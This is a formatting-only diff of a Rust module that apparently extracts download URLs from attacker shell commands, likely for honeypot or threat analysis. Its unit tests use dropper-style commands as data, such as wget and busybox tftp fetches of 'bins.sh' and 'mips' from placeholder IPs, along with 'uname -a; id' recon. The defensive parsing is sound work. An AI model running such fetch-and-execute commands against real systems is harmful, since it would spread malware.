@@ -265,13 +265,11 @@ pub fn download_urls(cmd: &str, out: &mut dyn FnMut(&str)) {
     match name {
         "wget" | "curl" => {
             let takes_value: &[&str] = if name == "wget" {
-                &[
-                    "-O", "-o", "-P", "-a", "-U", "-e", "-t", "-T", "-i", "-Y",
-                ]
+                &["-O", "-o", "-P", "-a", "-U", "-e", "-t", "-T", "-i", "-Y"]
             } else {
                 &[
-                    "-o", "-H", "-A", "-d", "-u", "-x", "-e", "-X", "-T", "-m", "-b", "-c",
-                    "-w", "-F", "-E", "-K", "-r", "-y", "-Y", "-z",
+                    "-o", "-H", "-A", "-d", "-u", "-x", "-e", "-X", "-T", "-m", "-b", "-c", "-w",
+                    "-F", "-E", "-K", "-r", "-y", "-Y", "-z",
                 ]
             };
             let mut skip = false;
@@ -286,10 +284,23 @@ pub fn download_urls(cmd: &str, out: &mut dyn FnMut(&str)) {
                     skip = !long.contains('=')
                         && matches!(
                             long,
-                            "output-document" | "output" | "user-agent" | "header" | "data"
-                                | "user" | "proxy" | "referer" | "request" | "upload-file"
-                                | "max-time" | "connect-timeout" | "directory-prefix"
-                                | "tries" | "timeout" | "cookie" | "retry"
+                            "output-document"
+                                | "output"
+                                | "user-agent"
+                                | "header"
+                                | "data"
+                                | "user"
+                                | "proxy"
+                                | "referer"
+                                | "request"
+                                | "upload-file"
+                                | "max-time"
+                                | "connect-timeout"
+                                | "directory-prefix"
+                                | "tries"
+                                | "timeout"
+                                | "cookie"
+                                | "retry"
                         );
                 } else if a.starts_with('-') && a.len() > 1 {
                     let last = &a[a.len() - 1..];
@@ -361,7 +372,10 @@ fn looks_like_host_path(a: &str) -> bool {
         && host
             .bytes()
             .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')
-        && host.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric())
+        && host
+            .bytes()
+            .next()
+            .is_some_and(|b| b.is_ascii_alphanumeric())
         && !host.ends_with(".sh")
 }
 
@@ -414,13 +428,24 @@ fn is_url_terminator(c: u8) -> bool {
     c.is_ascii_whitespace()
         || matches!(
             c,
-            b'"' | b'\'' | b'`' | b';' | b'|' | b'<' | b'>' | b')' | b'(' | b'{' | b'}' | b'\\' | b','
+            b'"' | b'\''
+                | b'`'
+                | b';'
+                | b'|'
+                | b'<'
+                | b'>'
+                | b')'
+                | b'('
+                | b'{'
+                | b'}'
+                | b'\\'
+                | b','
         )
 }
 
 /// Percent-decodes `s` (and `+` as space when asked), replacing invalid UTF-8.
 pub fn percent_decode(s: &str, plus_as_space: bool) -> Cow<'_, str> {
-    if !s.contains('%') && !(plus_as_space && s.contains('+')) {
+    if !(s.contains('%') || plus_as_space && s.contains('+')) {
         return Cow::Borrowed(s);
     }
     let b = s.as_bytes();
@@ -428,16 +453,14 @@ pub fn percent_decode(s: &str, plus_as_space: bool) -> Cow<'_, str> {
     let mut i = 0;
     while i < b.len() {
         match b[i] {
-            b'%' if i + 2 < b.len() => {
-                match (hex(b[i + 1]), hex(b[i + 2])) {
-                    (Some(h), Some(l)) => {
-                        out.push(h * 16 + l);
-                        i += 3;
-                        continue;
-                    }
-                    _ => out.push(b'%'),
+            b'%' if i + 2 < b.len() => match (hex(b[i + 1]), hex(b[i + 2])) {
+                (Some(h), Some(l)) => {
+                    out.push(h * 16 + l);
+                    i += 3;
+                    continue;
                 }
-            }
+                _ => out.push(b'%'),
+            },
             b'+' if plus_as_space => out.push(b' '),
             c => out.push(c),
         }
@@ -467,7 +490,9 @@ mod tests {
 
     fn urls(cmd: &str) -> Vec<String> {
         let mut v = Vec::new();
-        split_commands(cmd, &mut |c| download_urls(c, &mut |u| v.push(u.to_string())));
+        split_commands(cmd, &mut |c| {
+            download_urls(c, &mut |u| v.push(u.to_string()))
+        });
         v
     }
 
@@ -491,11 +516,18 @@ mod tests {
 
     #[test]
     fn splits_substitutions_and_sh_c() {
-        assert_eq!(split("echo $(uname -a; id)"), ["echo $(uname -a; id)", "uname -a", "id"]);
+        assert_eq!(
+            split("echo $(uname -a; id)"),
+            ["echo $(uname -a; id)", "uname -a", "id"]
+        );
         assert_eq!(split("echo `whoami`"), ["echo `whoami`", "whoami"]);
         assert_eq!(
             split("sh -c 'cd /tmp && wget http://h/a'"),
-            ["sh -c 'cd /tmp && wget http://h/a'", "cd /tmp", "wget http://h/a"]
+            [
+                "sh -c 'cd /tmp && wget http://h/a'",
+                "cd /tmp",
+                "wget http://h/a"
+            ]
         );
         assert_eq!(
             split("/bin/busybox sh -c \"nproc\""),
@@ -519,9 +551,15 @@ mod tests {
 
     #[test]
     fn download_urls_from_tools() {
-        assert_eq!(urls("wget http://1.2.3.4/bins.sh"), ["http://1.2.3.4/bins.sh"]);
+        assert_eq!(
+            urls("wget http://1.2.3.4/bins.sh"),
+            ["http://1.2.3.4/bins.sh"]
+        );
         assert_eq!(urls("wget -q -O - 1.2.3.4/x.sh"), ["http://1.2.3.4/x.sh"]);
-        assert_eq!(urls("curl -s -o /tmp/x -A ua https://e.com/m"), ["https://e.com/m"]);
+        assert_eq!(
+            urls("curl -s -o /tmp/x -A ua https://e.com/m"),
+            ["https://e.com/m"]
+        );
         assert_eq!(
             urls("/bin/busybox wget http://h/mips; busybox tftp -g -r mips 5.6.7.8"),
             ["http://h/mips", "tftp://5.6.7.8/mips"]
